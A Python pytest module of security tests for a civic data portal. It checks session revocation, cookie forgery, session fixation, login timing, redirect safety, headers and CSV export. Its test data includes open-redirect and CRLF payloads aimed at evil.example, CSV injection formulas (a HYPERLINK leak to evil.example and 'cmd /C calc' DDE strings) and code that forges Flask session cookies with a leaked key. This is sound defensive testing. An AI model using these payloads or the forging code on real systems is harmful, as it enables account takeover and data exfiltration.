"""Attacks on the web side that the suite was blind to (issue 14), each named after it.

Against the session-wide live stack (gunicorn, PostgreSQL, Redis, CKAN), through
the real login form with its CSRF token, the portal's forms, the ``civic`` command
line and the API, as an attacker from outside would:

- sessions: a cookie copied before logout, a password change or an account's
  disabling opens nothing afterwards; a cookie forged with the signing key opens
  nothing; idle and absolute expiry hold;
- login timing: locked, disabled, unknown and active accounts answer alike;
- ``next`` after login: CR/LF, backslashes and absolute or protocol-relative URLs are
  ignored, never a 500 nor a redirect off the site;
- headers: pages that show a secret are never cached; every page says nosniff, a
  referrer policy and a script policy;
- CSV: a formula given as a report parameter is written as text, not as a formula.
"""

from __future__ import annotations

import csv
import io
import statistics
import time
from urllib.parse import quote

import pytest
import requests
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from tests.integration.identity import (
    PASSWORD,
    civic,
    csrf_token,
    logged_in,
    new_user,
    sql,
)
from tests.integration.stack import RunningStack
from tests.resilience.ledger import Ledger
from tests.resilience.roles import EVALUATOR, Roles

pytestmark = [pytest.mark.resilience, pytest.mark.integration]

PART = "8 web attacks"
TIMEOUT = 30
COOKIE = "civic_session"


def _copy(browser: requests.Session) -> requests.Session:
    """Another browser holding a copy of ``browser``'s session cookie (a stolen cookie)."""
    thief = requests.Session()
    thief.cookies.set(COOKIE, browser.cookies[COOKIE])
    return thief


def _opens_portal(stack: RunningStack, browser: requests.Session) -> bool:
    answer = browser.get(f"{stack.gateway_url}/portal/", allow_redirects=False, timeout=TIMEOUT)
    assert answer.status_code in (200, 302), answer.status_code
    return answer.status_code == 200


def _log_out(stack: RunningStack, browser: requests.Session) -> None:
    page = browser.get(f"{stack.gateway_url}/portal/", timeout=TIMEOUT)
    answer = browser.post(
        f"{stack.gateway_url}/logout",
        data={"csrf_token": csrf_token(page.text)},
        allow_redirects=False,
        timeout=TIMEOUT,
    )
    assert answer.status_code == 302


# 1. Sessions ------------------------------------------------------------------------


def test_a_session_cookie_copied_before_logout_opens_nothing_after_it(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    browser = logged_in(stack, user["email"])
    portal = browser.get(f"{stack.gateway_url}/portal/", timeout=TIMEOUT)
    thief = _copy(browser)
    assert _opens_portal(stack, thief)  # the copy works while the session lives
    _log_out(stack, browser)
    still_open = _opens_portal(stack, thief)
    minted = thief.post(
        f"{stack.gateway_url}/portal/initial-token",
        data={"csrf_token": csrf_token(portal.text)},
        allow_redirects=False,
        timeout=TIMEOUT,
    )
    ledger.record(PART, tried=2, failed=int(still_open) + int(minted.status_code == 200))
    ledger.note(PART, "a cookie copied before logout: refused after it")
    assert not still_open
    assert minted.status_code != 200, "an initial access token was minted after logout"


def _change_password(stack: RunningStack, browser: requests.Session, new: str) -> int:
    page = browser.get(f"{stack.gateway_url}/account/password", timeout=TIMEOUT)
    assert page.status_code == 200, page.status_code
    return browser.post(
        f"{stack.gateway_url}/account/password",
        data={
            "csrf_token": csrf_token(page.text),
            "current_password": PASSWORD,
            "new_password": new,
        },
        allow_redirects=False,
        timeout=TIMEOUT,
    ).status_code


def test_a_session_stolen_before_a_password_change_opens_nothing_after_it(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    browser, elsewhere = logged_in(stack, user["email"]), logged_in(stack, user["email"])
    thief = _copy(browser)
    new = "a brand new passphrase 42"
    assert _change_password(stack, browser, new) == 302
    survivors = [_opens_portal(stack, other) for other in (thief, elsewhere)]
    ledger.record(PART, tried=2, failed=sum(survivors))
    ledger.note(PART, "a password change in the portal ends the account's other sessions")
    assert survivors == [False, False]
    assert _opens_portal(stack, browser)  # who changed it stays logged in, on a new session
    assert browser.cookies[COOKIE] != thief.cookies[COOKIE]
    logged_in(stack, user["email"], new)  # the new password works


def test_a_session_stolen_before_an_operator_resets_the_password_opens_nothing(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    thief = _copy(logged_in(stack, user["email"]))
    civic(stack, "users", "set-password", user["email"], "--password-stdin", stdin="x" * 14 + "\n")
    still_open = _opens_portal(stack, thief)
    ledger.record(PART, tried=1, failed=int(still_open))
    assert not still_open


def test_a_session_of_a_disabled_account_stays_dead_when_the_account_is_restored(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    browser = logged_in(stack, user["email"])
    thief = _copy(browser)
    civic(stack, "users", "disable", user["email"])
    during = [_opens_portal(stack, thief), _opens_portal(stack, browser)]
    civic(stack, "users", "enable", user["email"])
    after = [_opens_portal(stack, thief), _opens_portal(stack, browser)]
    ledger.record(PART, tried=4, failed=sum(during) + sum(after))
    ledger.note(PART, "disabling an account ends its sessions; restoring it revives none")
    assert during == [False, False]
    assert after == [False, False]
    logged_in(stack, user["email"])  # a new login works again


def test_a_session_cookie_forged_with_the_signing_key_opens_nothing(
    stack: RunningStack, ledger: Ledger
) -> None:
    # The attacker has the gateway's secret key (leaked config, backup) and a victim's id.
    victim = new_user(stack)
    key = (stack.var_dir / "secrets" / "gateway_secret_key").read_text().strip()
    app = Flask("forger")
    app.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    assert serializer is not None
    forged = requests.Session()
    forged.cookies.set(COOKIE, serializer.dumps({"uid": victim["id"], "_permanent": True}))
    opened = _opens_portal(stack, forged)
    ledger.record(PART, tried=1, failed=int(opened))
    assert not opened


def test_a_session_idle_too_long_or_past_its_lifetime_opens_nothing(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    idle, old = logged_in(stack, user["email"]), logged_in(stack, user["email"])
    # Idle: last seen two idle periods ago. Old: started beyond the absolute lifetime,
    # yet used a second ago (a sliding cookie would still live).
    sql(
        stack,
        "UPDATE web_sessions SET last_seen_at = now() - interval '1 day'"
        " WHERE user_id = %(id)s AND token_hash = encode(sha256(%(token)s::bytea), 'hex')",
        {"id": user["id"], "token": idle.cookies[COOKIE]},
    )
    sql(
        stack,
        "UPDATE web_sessions SET created = now() - interval '9 hours',"
        " expires_at = now() - interval '1 hour', last_seen_at = now()"
        " WHERE user_id = %(id)s AND token_hash = encode(sha256(%(token)s::bytea), 'hex')",
        {"id": user["id"], "token": old.cookies[COOKIE]},
    )
    opened = [_opens_portal(stack, idle), _opens_portal(stack, old)]
    ledger.record(PART, tried=2, failed=sum(opened))
    assert opened == [False, False]


def test_a_cookie_set_before_login_is_not_the_session_after_it(
    stack: RunningStack, ledger: Ledger
) -> None:
    # Session fixation: an attacker plants a cookie, the victim logs in with it.
    user = new_user(stack)
    victim = requests.Session()
    page = victim.get(f"{stack.gateway_url}/login", timeout=TIMEOUT)
    planted = victim.cookies[COOKIE]
    answer = victim.post(
        f"{stack.gateway_url}/login",
        data={"email": user["email"], "password": PASSWORD, "csrf_token": csrf_token(page.text)},
        allow_redirects=False,
        timeout=TIMEOUT,
    )
    assert answer.status_code == 302
    attacker = requests.Session()
    attacker.cookies.set(COOKIE, planted)
    fixed = _opens_portal(stack, attacker)
    ledger.record(PART, tried=1, failed=int(fixed or victim.cookies[COOKIE] == planted))
    assert victim.cookies[COOKIE] != planted
    assert not fixed


# 6. Login timing --------------------------------------------------------------------


def _login_ms(stack: RunningStack, email: str, password: str) -> float:
    browser = requests.Session()
    page = browser.get(f"{stack.gateway_url}/login", timeout=TIMEOUT)
    form = {"email": email, "password": password, "csrf_token": csrf_token(page.text)}
    started = time.perf_counter()
    answer = browser.post(
        f"{stack.gateway_url}/login", data=form, allow_redirects=False, timeout=TIMEOUT
    )
    took = (time.perf_counter() - started) * 1000
    assert answer.status_code in (302, 401), answer.status_code
    return took


def test_a_locked_or_disabled_account_cannot_be_told_by_login_timing(
    stack: RunningStack, ledger: Ledger
) -> None:
    active, locked, disabled = new_user(stack), new_user(stack), new_user(stack)
    for _ in range(5):  # the lockout threshold of the test settings
        _login_ms(stack, locked["email"], "wrong password, surely")
    sql(stack, "UPDATE users SET is_active = false WHERE id = %(id)s", {"id": disabled["id"]})
    kinds = {
        "active, wrong password": (active["email"], "wrong password, surely"),
        "unknown": (f"nobody-{time.time_ns()}@example.org", PASSWORD),
        "locked, right password": (locked["email"], PASSWORD),
        "disabled, right password": (disabled["email"], PASSWORD),
    }
    times: dict[str, list[float]] = {kind: [] for kind in kinds}
    for _ in range(9):  # interleaved, so load on the machine affects every kind alike
        for kind, (email, password) in kinds.items():
            times[kind].append(_login_ms(stack, email, password))
    medians = {kind: statistics.median(values) for kind, values in times.items()}
    reference = medians["active, wrong password"]
    ratios = {kind: median / reference for kind, median in medians.items()}
    ledger.record(PART, tried=len(kinds), failed=sum(r < 0.6 for r in ratios.values()))
    ledger.note(
        PART,
        "login medians: " + ", ".join(f"{kind} {ms:.0f} ms" for kind, ms in medians.items()),
    )
    assert all(ratio >= 0.6 for ratio in ratios.values()), medians


# 7. ``next`` after login ------------------------------------------------------------

UNSAFE_NEXT = (
    "/\r\nSet-Cookie:x=1",
    "/portal/\r\nLocation: https://evil.example/",
    "/\nx",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "//evil.example/",
    "///evil.example/",
    "https://evil.example/",
    "http:/evil.example",
    "javascript:alert(1)",
    " //evil.example",
    "/\t/evil.example",
)


@pytest.mark.parametrize("target", UNSAFE_NEXT, ids=[quote(t, safe="") for t in UNSAFE_NEXT])
def test_an_unsafe_next_after_login_is_ignored_not_a_500_nor_a_redirect_away(
    stack: RunningStack, ledger: Ledger, target: str
) -> None:
    user = new_user(stack)
    browser = requests.Session()
    page = browser.get(
        f"{stack.gateway_url}/login",
        params={"next": target},
        allow_redirects=False,
        timeout=TIMEOUT,
    )
    form = {"email": user["email"], "password": PASSWORD, "next": target}
    if page.status_code == 200:
        form["csrf_token"] = csrf_token(page.text)
    answer = browser.post(
        f"{stack.gateway_url}/login", data=form, allow_redirects=False, timeout=TIMEOUT
    )
    again = browser.get(
        f"{stack.gateway_url}/login",
        params={"next": target},
        allow_redirects=False,
        timeout=TIMEOUT,
    )
    ledger.record(PART, tried=3, failed=sum(r.status_code >= 500 for r in (page, answer, again)))
    assert page.status_code == 200, page.status_code
    assert "x=1" not in page.headers.get("Set-Cookie", "")
    assert answer.status_code == 302, answer.status_code
    assert answer.headers["Location"] == "/portal/"
    assert again.status_code == 302, again.status_code  # logged in: straight to next
    assert again.headers["Location"] == "/portal/"


# 12. Headers ------------------------------------------------------------------------


def _secure_headers(answer: requests.Response) -> list[str]:
    """What ``answer`` lacks of the headers every page must carry."""
    missing = []
    if answer.headers.get("X-Content-Type-Options") != "nosniff":
        missing.append("X-Content-Type-Options")
    if answer.headers.get("Referrer-Policy") not in (
        "strict-origin-when-cross-origin",
        "strict-origin",
        "same-origin",
        "no-referrer",
    ):
        missing.append("Referrer-Policy")
    policy = answer.headers.get("Content-Security-Policy", "")
    if "script-src 'self'" not in policy or "frame-ancestors 'none'" not in policy:
        missing.append("Content-Security-Policy")
    if "Strict-Transport-Security" in answer.headers:  # production only (test settings here)
        missing.append("no HSTS outside production")
    return missing


def test_pages_showing_a_new_client_secret_or_initial_token_are_never_cached(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    browser = logged_in(stack, user["email"])
    form = browser.get(f"{stack.gateway_url}/portal/apps/new", timeout=TIMEOUT)
    created = browser.post(
        f"{stack.gateway_url}/portal/apps/new",
        data={
            "csrf_token": csrf_token(form.text),
            "client_name": "Cache probe",
            "actor_type": "company_small",
            "redirect_uris": "",
            "grant_types": ["client_credentials"],
            "client_type": "confidential",
            "scope": ["reuses:write"],
        },
        timeout=TIMEOUT,
    )
    assert created.status_code == 200, created.text[:500]
    portal = browser.get(f"{stack.gateway_url}/portal/", timeout=TIMEOUT)
    token = browser.post(
        f"{stack.gateway_url}/portal/initial-token",
        data={"csrf_token": csrf_token(portal.text)},
        timeout=TIMEOUT,
    )
    assert token.status_code == 200
    pages = {"new client secret": created, "initial access token": token, "portal": portal}
    cached = {
        name: page.headers.get("Cache-Control")
        for name, page in pages.items()
        if "no-store" not in page.headers.get("Cache-Control", "")
    }
    ledger.record(PART, tried=len(pages), failed=len(cached))
    assert not cached, cached
    assert not any(_secure_headers(page) for page in pages.values())


PUBLIC_PAGES = ("/catalog", "/login", "/api/v1/docs", "/api/v1/datasets", "/healthz", "/nowhere")


def test_every_page_says_nosniff_a_referrer_policy_and_a_script_policy(
    stack: RunningStack, ledger: Ledger
) -> None:
    lacking = {}
    for path in PUBLIC_PAGES:
        answer = requests.get(f"{stack.gateway_url}{path}", allow_redirects=False, timeout=TIMEOUT)
        missing = _secure_headers(answer)
        if "html" not in answer.headers.get("Content-Type", ""):
            # JSON answers are no documents: nosniff and the referrer policy suffice.
            missing = [m for m in missing if m != "Content-Security-Policy"]
        if missing:
            lacking[path] = missing
    ledger.record(PART, tried=len(PUBLIC_PAGES), failed=len(lacking))
    ledger.note(PART, f"security headers on {len(PUBLIC_PAGES)} public pages and answers")
    assert not lacking, lacking


# 13. CSV -------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_formula_in_a_report_parameter_is_text_in_the_pathway_csv(
    roles: Roles, ledger: Ledger
) -> None:
    formulas, shown = [], 0
    for formula in FORMULAS:
        answer = roles.call(
            EVALUATOR,
            "GET",
            "/api/v1/reports/pathways.csv",
            params={"territory": formula, "from": "2026-01-01", "to": "2026-01-31"},
            timeout=120,
        )
        if answer.status_code == 422 and formula[0] in "\t\r":
            continue  # refused at the door: as good as escaped
        assert answer.status_code == 200, answer.text[:500]
        formulas += _formula_cells(answer.text)
        shown += formula.lstrip("\t\r") in answer.text
    ledger.record(PART, tried=len(FORMULAS), failed=len(formulas))
    ledger.note(PART, f"CSV: {len(FORMULAS)} formulas as a report parameter, written as text")
    assert shown >= 4  # the parameter is in the CSV (as text)
    assert not formulas, formulas


# Bad input at the web doors ------------------------------------------------------------

# Percent-encoded as a browser would send them: a lone surrogate (UTF-8 of U+D800, which
# is not valid UTF-8), a backslash, a double quote, CR/LF, an XML-invalid control.
HOSTILE = {
    "lone surrogate": "x%ED%A0%80y",
    "backslash": "a%5Cb",
    "double quote": "a%22b",
    "CR/LF": "a%0D%0Ab",
    "control U+0001": "a%01b",
}


def _form(fields: dict[str, str]) -> str:
    return "&".join(f"{name}={quote(value, safe='')}" for name, value in fields.items())


def test_hostile_characters_in_every_field_of_the_web_forms_are_never_a_500(
    stack: RunningStack, ledger: Ledger
) -> None:
    user = new_user(stack)
    browser = logged_in(stack, user["email"])
    portal = browser.get(f"{stack.gateway_url}/portal/", timeout=TIMEOUT)
    token = csrf_token(portal.text)
    forms = {
        "/login": {"email": user["email"], "password": PASSWORD, "next": "/portal/"},
        "/account/password": {"current_password": "wrong password!", "new_password": "x" * 14},
        "/portal/apps/new": {
            "client_name": "Probe",
            "actor_type": "company_small",
            "organization_name": "Org",
            "territory": "69123",
            "client_uri": "https://probe.example",
            "redirect_uris": "https://probe.example/cb",
            "grant_types": "authorization_code",
            "client_type": "confidential",
            "contacts": "dev@probe.example",
        },
    }
    errors, tried = [], 0
    for path, fields in forms.items():
        for field in fields:
            for kind, encoded in HOSTILE.items():
                sent = {**fields, "csrf_token": token}
                body = _form(sent).replace(
                    f"{field}={quote(fields[field], safe='')}", f"{field}={encoded}", 1
                )
                # /login logs this browser in again; keep the session of the others.
                who = requests.Session() if path == "/login" else browser
                if path == "/login":
                    page = who.get(f"{stack.gateway_url}/login", timeout=TIMEOUT)
                    body = body.replace(quote(token, safe=""), csrf_token(page.text))
                answer = who.post(
                    f"{stack.gateway_url}{path}",
                    data=body,
                    headers={"Content-Type": "application/x-www-form-urlencoded"},
                    allow_redirects=False,
                    timeout=TIMEOUT,
                )
                tried += 1
                if answer.status_code >= 500:
                    errors.append((path, field, kind, answer.status_code))
    ledger.record(PART, tried=tried, failed=len(errors))
    ledger.note(PART, f"web forms: {tried} fields x hostile characters, no 5xx")
    assert not errors, errors
